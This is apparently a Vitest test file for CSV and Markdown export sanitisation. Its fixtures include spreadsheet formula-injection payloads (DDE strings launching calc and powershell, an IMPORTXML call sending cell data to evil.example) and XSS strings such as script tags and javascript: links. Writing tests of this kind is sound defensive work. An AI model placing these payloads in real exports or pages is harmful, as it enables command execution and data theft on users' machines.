/**
 * Hostile text in exports: spreadsheet formulas stay text in CSV, HTML and Markdown stay literal
 * in the Markdown report, and links are only ever http(s).
 */
import { describe, expect, test } from 'vitest';
import { neutraliseCell } from './csv-cell';
import { escapeMarkdown, markdownLink } from './markdown';

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://evil.example","Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")',
  '-5 degrees tonight',
  "=cmd|'/c powershell'!A1",
];

describe('hostile text in exports', () => {
  for (const f of FORMULAS) {
    test(`CSV: ${JSON.stringify(f).slice(0, 40)} stays text`, () => {
      expect(neutraliseCell(f).startsWith("'")).toBe(true);
      expect(neutraliseCell(f).slice(1)).toBe(f);
    });
  }
  test('CSV: plain numbers stay numbers', () => {
    for (const n of ['-5', '+3.2', '1e5']) expect(neutraliseCell(n)).toBe(n);
  });

  const MARKUP = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '[click](javascript:alert(1))',
    '![x](https://evil.example/track.png)',
    '# Heading injection',
    '<a href="javascript:alert(1)">x</a>',
    '`code` **bold** _it_ | table |',
    'line one\n\n- injected list item',
  ];
  for (const m of MARKUP) {
    test(`Markdown: ${JSON.stringify(m).slice(0, 40)} stays literal`, () => {
      const out = escapeMarkdown(m);
      expect(out).not.toMatch(/<[a-z]/i);
      expect(out).not.toMatch(/(^|[^\\])\[[^\]]*\]\(/);
      expect(out).not.toContain('\n');
    });
  }

  for (const url of [
    'javascript:alert(1)',
    'data:text/html,<script>',
    'vbscript:x',
    ' javascript:alert(1)',
    '//evil.example',
  ]) {
    test(`Markdown link: ${url} is never a link`, () => {
      expect(markdownLink('Source', url)).not.toMatch(/\]\(/);
    });
  }
  test('Markdown link: an http(s) address with ) and spaces cannot end the link early', () => {
    expect(markdownLink('S', 'https://example.org/a) [x](javascript:alert(1)')).toMatch(
      /^\[S\]\(https:\/\/example\.org\/a%29%20\[x\]%28javascript:alert%281%29\)$/,
    );
  });
});
